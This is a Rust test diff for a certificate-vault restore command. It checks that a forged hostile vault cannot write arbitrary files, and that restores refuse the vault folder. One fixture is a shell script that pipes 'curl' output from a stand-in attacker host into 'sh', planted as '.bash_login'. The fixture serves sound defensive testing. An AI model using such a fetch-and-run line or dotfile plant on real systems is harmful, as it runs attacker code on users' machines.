@@ -408,6 +408,77 @@ fn the_file_target_writes_the_original_for_a_vendor() {
     assert_eq!(std::fs::read(&written).unwrap(), b"something else");
 }
 
+/// A generation written by someone who holds the vault's key (a hostile vault): the entry
+/// `id` gets `bytes` (with its SHA-256 and id, so the generation is valid) and `name` as its
+/// original file name. Gives the new entry id.
+fn write_hostile_generation(s: &Setup, id: &str, bytes: &[u8], name: &str) -> String {
+    use certvault::vault::{OpenVault, Unlock};
+    let unlock = Unlock::Passphrase(secrecy::SecretString::from(PASSPHRASE.to_string()));
+    let vault = OpenVault::open(&s.vault, &unlock, false).unwrap_or_else(|e| panic!("{}", e.message));
+    let mut payload = vault.payload.clone();
+    let sha256 = vault_format::manifest::sha256_hex(bytes);
+    let new_id = sha256[..12].to_string();
+    payload.manifest = payload.manifest.next_generation("2026-06-01T00:00:00Z".into());
+    let entry = payload.manifest.entries.iter_mut().find(|e| e.id == id).unwrap();
+    entry.id = new_id.clone();
+    entry.original_file_name = name.to_string();
+    entry.size = bytes.len() as u64;
+    entry.sha256 = sha256;
+    entry.pin_stored = false;
+    payload.certs.remove(id);
+    payload.pins.remove(id);
+    payload.certs.insert(new_id.clone(), bytes.to_vec());
+    let sealed = vault_format::seal_generation(&payload, &vault.identity().to_public()).unwrap();
+    let file = s.vault.join(vault_format::generation_file_name(payload.manifest.generation));
+    std::fs::write(file, sealed).unwrap();
+    new_id
+}
+
+/// A hostile vault cannot make `--to file:DIR` write what it likes where it likes: an entry
+/// that is not PKCS#12 (a shell script named `.bash_login`) is refused before anything is
+/// written; a real certificate file's name is kept to a safe set (no hidden dot file, a
+/// `.p12` extension).
+#[test]
+fn the_file_target_writes_only_certificate_files_under_safe_names() {
+    let s = Setup::new();
+    let home = s.dir("home");
+    let target = format!("file:{}", home.display());
+    let script = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n";
+    let id = write_hostile_generation(&s, &s.id, script, ".bash_login");
+    let out = s.restore(&[&id, "--to", &target]).output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains(&id) && stderr.contains("not a PKCS#12"), "{stderr}");
+    assert_eq!(std::fs::read_dir(&home).unwrap().count(), 0, "nothing is written: {stderr}");
+
+    // The same name on a real certificate file: written, but not as a hidden dot file.
+    let id = write_hostile_generation(&s, &id, &s.p12, ".bash_login");
+    let out = s.restore(&[&id, "--to", &target]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let names: Vec<String> = std::fs::read_dir(&home)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names, ["bash_login.p12"]);
+    assert_eq!(std::fs::read(home.join("bash_login.p12")).unwrap(), s.p12);
+}
+
+/// `--to file:` never writes the certificate into the vault folder, where it would lie
+/// unencrypted on the stick.
+#[test]
+fn the_file_target_refuses_the_vault_folder() {
+    let s = Setup::new();
+    let before: Vec<_> = std::fs::read_dir(&s.vault).unwrap().map(|e| e.unwrap().file_name()).collect();
+    for target in [s.vault.clone(), s.vault.join("copy.p12")] {
+        let out = s.restore(&["--to", &format!("file:{}", target.display())]).output().unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{}: {stderr}", target.display());
+        assert!(stderr.contains("inside the vault folder"), "{stderr}");
+    }
+    let after: Vec<_> = std::fs::read_dir(&s.vault).unwrap().map(|e| e.unwrap().file_name()).collect();
+    assert_eq!(after, before);
+}
+
 #[test]
 fn expired_and_superseded_certificates_need_a_yes() {
     let s = Setup::new();
